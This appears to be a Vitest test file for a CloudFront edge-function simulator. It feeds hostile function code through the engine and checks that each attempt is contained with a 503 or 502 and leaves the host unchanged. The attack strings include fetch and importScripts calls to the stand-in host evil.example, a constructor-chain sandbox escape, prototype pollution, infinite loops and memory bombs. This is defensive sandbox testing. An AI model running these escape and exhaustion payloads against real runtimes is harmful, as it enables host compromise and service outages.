// Hostile edge functions through the whole engine (issue 10): each attack runs as a real viewer
// request through createEngine's pipeline and ends with the status CloudFront documents for it
// (spec/cloudfront.md §9.4: a throw or an exceeded limit is 503, an unusable result is 502); the very
// next request is served normally, the scenario's own traffic keeps running, and nothing of the host
// (this Node process, standing in for the worker) changes.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SimEngine } from '../sim/engine';
import { createEngine } from '../sim/createEngine';
import { catalogScenario, DOMAIN } from '../sim/testing/harness';
import type { EdgeFunction, Scenario } from '../scenario';
import type { ViewerResult } from '../types';

/** Attacks by name: the code runs when the request path is /attack/<name>. */
const ATTACKS: Record<string, { code: string; lambdaCode?: string; status: number }> = {
  // Reaching for the page or worker: none of these exist in the sandbox, so using them throws.
  self: { code: 'self.postMessage("x");', status: 503 },
  globalThis: { code: 'globalThis.fetch("https://evil.example/");', status: 503 },
  fetch: { code: 'fetch("https://evil.example/");', status: 503 },
  importScripts: { code: 'importScripts("https://evil.example/x.js");', status: 503 },
  postMessage: { code: 'postMessage({ steal: true });', status: 503 },
  indexedDB: { code: 'indexedDB.open("edgelab");', status: 503 },
  localStorage: { code: 'localStorage.setItem("edgelab", "owned");', status: 503 },
  document: { code: 'document.body.innerHTML = "owned";', status: 503 },
  // Constructor and prototype tricks reach at most the sandbox's own global, which has no host in it.
  constructorEscape: { code: 'this.constructor.constructor("return this")().process.exit(1);', status: 503 },
  functionEscape: { code: 'Function("return this")().fetch("https://evil.example/");', status: 503 },
  prototypePollution: {
    code: 'Object.prototype.polluted = "yes"; Array.prototype.push = null; [].push(1);',
    status: 503,
  },
  // Runaway code: stopped by the compute / time limit (503) or by the stack and memory limits.
  infiniteLoop: { code: 'while (true) {}', status: 503 },
  deepRecursion: { code: 'var f = function (n) { return f(n + 1) + 1; }; f(0);', status: 503 },
  memoryBomb: {
    code: 'var keep = []; while (true) keep.push(new Array(1000000).join("x") + keep.length);',
    status: 503,
  },
  hugeString: { code: 'var s = "x"; while (true) s = s + s;', status: 503 },
  // A result over the size CloudFront accepts is a validation error (502). CloudFront Functions:
  // a 100 KB generated body (limit 40 KB) fits the 2 MB memory limit, so it is the size that fails;
  // Lambda@Edge: a 2 MB header (limit 1 MB of output), refused before it is parsed.
  hugeOutput: {
    code: 'return { statusCode: 200, statusDescription: "OK", body: { encoding: "text", data: "x".repeat(100 * 1024) } };',
    lambdaCode: 'r.headers["x-huge"] = [{ key: "X-Huge", value: "x".repeat(2 * 1024 * 1024) }];',
    status: 502,
  },
  // Throwing odd values: whatever is thrown, the viewer gets the execution-error status.
  throwNull: { code: 'throw null;', status: 503 },
  throwUndefined: { code: 'throw undefined;', status: 503 },
  throwSymbol: { code: 'throw Symbol("odd");', status: 503 },
  throwGetter: {
    code: 'throw { get message() { throw new Error("getter"); }, get name() { throw 1; } };',
    status: 503,
  },
  throwToString: {
    code: 'throw { toString: function () { throw new Error("toString"); }, valueOf: function () { throw 2; } };',
    status: 503,
  },
  throwProxy: {
    code: 'throw new Proxy({}, { get: function () { throw new Error("trap"); }, getPrototypeOf: function () { throw 3; } });',
    status: 503,
  },
};

/** One handler that dispatches on the path, so one engine holds every attack. */
function attackSource(kind: 'cff' | 'lambda'): string {
  const cases = Object.entries(ATTACKS)
    .map(
      ([name, a]) =>
        `if (uri === '/attack/${name}') { ${kind === 'lambda' ? (a.lambdaCode ?? a.code) : a.code} }`,
    )
    .join('\n');
  if (kind === 'cff')
    return `function handler(event) { var uri = event.request.uri;\n${cases}\nreturn event.request; }`;
  return `exports.handler = async (event) => { const r = event.Records[0].cf.request; const uri = r.uri;\n${cases}\nreturn r; };`;
}

function scenarioWith(fn: EdgeFunction): Scenario {
  const s = catalogScenario();
  const association = { eventType: 'viewer-request' as const, functionName: fn.name };
  if (fn.kind === 'lambda-edge')
    s.distribution.defaultCacheBehavior.lambdaFunctionAssociations = [association];
  else s.distribution.defaultCacheBehavior.functionAssociations = [association];
  return { ...s, functions: [fn] };
}

/** What of the host a sandbox escape would change: globals, the built-in prototypes, fetch. */
function hostFingerprint(): string {
  const names = (o: object) => Object.getOwnPropertyNames(o).sort().join(',');
  return JSON.stringify([
    names(globalThis),
    names(Object.prototype),
    names(Array.prototype),
    names(Function.prototype),
    typeof Array.prototype.push,
    String(globalThis.fetch).slice(0, 40),
    Object.keys(process.env).length,
  ]);
}

const get = (engine: SimEngine, path: string): Promise<ViewerResult> =>
  engine.request({
    method: 'GET',
    url: `https://${DOMAIN}${path}`,
    viewer: { ip: '198.51.100.10', country: 'US', pop: 'IAD' },
  });

for (const kind of ['cff', 'lambda'] as const) {
  describe(`hostile ${kind === 'cff' ? 'CloudFront Function' : 'Lambda@Edge function'} through the engine`, () => {
    let engine: SimEngine;
    const host = hostFingerprint();
    beforeAll(async () => {
      const fn: EdgeFunction =
        kind === 'cff'
          ? {
              name: 'hostile',
              kind: 'cloudfront-function',
              runtime: 'cloudfront-js-2.0',
              code: attackSource('cff'),
            }
          : { name: 'hostile', kind: 'lambda-edge', code: attackSource('lambda') };
      engine = await createEngine(scenarioWith(fn));
      expect((await get(engine, '/i/1.png')).status).toBe(200);
    }, 60_000);
    afterAll(() => expect(hostFingerprint()).toBe(host));

    for (const [name, attack] of Object.entries(ATTACKS)) {
      it(`${name}: ${attack.status}, then the next request and the traffic run normally`, async () => {
        const r = await get(engine, `/attack/${name}`);
        expect(r.status).toBe(attack.status);
        expect(r.headers['x-cache']).toBe('Error from cloudfront');
        const next = await get(engine, '/i/2.png');
        expect(next.status).toBe(200);
        const summary = engine.run(1_000);
        expect(summary.requests).toBeGreaterThan(0);
        expect(summary.errors).toBe(0);
        expect(hostFingerprint()).toBe(host);
      });
    }
  });
}
